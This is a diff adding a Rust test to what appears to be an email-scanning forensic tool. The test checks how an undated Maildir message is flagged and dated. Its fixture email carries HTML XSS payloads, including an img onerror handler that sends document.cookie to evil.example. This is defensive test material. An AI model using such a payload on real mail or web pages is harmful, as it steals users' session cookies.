@@ -146,3 +146,43 @@ fn file_times_are_marked_and_off_the_axis_and_quiet_accounts_folded() {
         );
     }
 }
+
+/// A fresh user's retest: an exploit message with no arrival time (no
+/// delivery time in its Maildir name, no `Date:`) made "when" answer
+/// 1970-01-01, the epoch the mail stage dates it at.
+#[test]
+fn an_undated_message_is_out_of_when_and_off_the_axis() {
+    let dir = tempfile::tempdir().unwrap();
+    let maildir = dir.path().join("Maildir");
+    for sub in ["cur", "new", "tmp"] {
+        std::fs::create_dir_all(maildir.join(sub)).unwrap();
+    }
+    std::fs::write(
+        maildir.join("cur/nodate:2,S"),
+        "From: a@evil.example\r\nTo: b@corp.example\r\nSubject: invoice\r\n\
+         MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
+         <html><body><svg><animate onbegin=\"alert(1)\" attributeName=\"x\"/></svg>\
+         <img src=x onerror=\"fetch('https://evil.example/?'+document.cookie)\"></body></html>\r\n",
+    )
+    .unwrap();
+    let case = tempfile::tempdir().unwrap();
+    common::scan_any(case.path(), &[], &[maildir]);
+    let findings = common::findings_of(case.path());
+    assert!(
+        findings.iter().any(|f| {
+            f["rule_id"].as_str().unwrap().starts_with("VM")
+                && matches!(f["level"].as_str(), Some("high" | "critical"))
+        }),
+        "{findings:?}"
+    );
+    let answers: Value =
+        serde_json::from_str(&std::fs::read_to_string(case.path().join("answers.json")).unwrap())
+            .unwrap();
+    assert!(answers["when"].is_null(), "{}", answers["when"]);
+    let html = std::fs::read_to_string(case.path().join("report.html")).unwrap();
+    assert!(!html.contains("1970-01-01"), "the epoch shown as a time");
+    assert!(
+        html.contains("<span class=\"filetime\">no arrival time</span>"),
+        "not listed apart"
+    );
+}
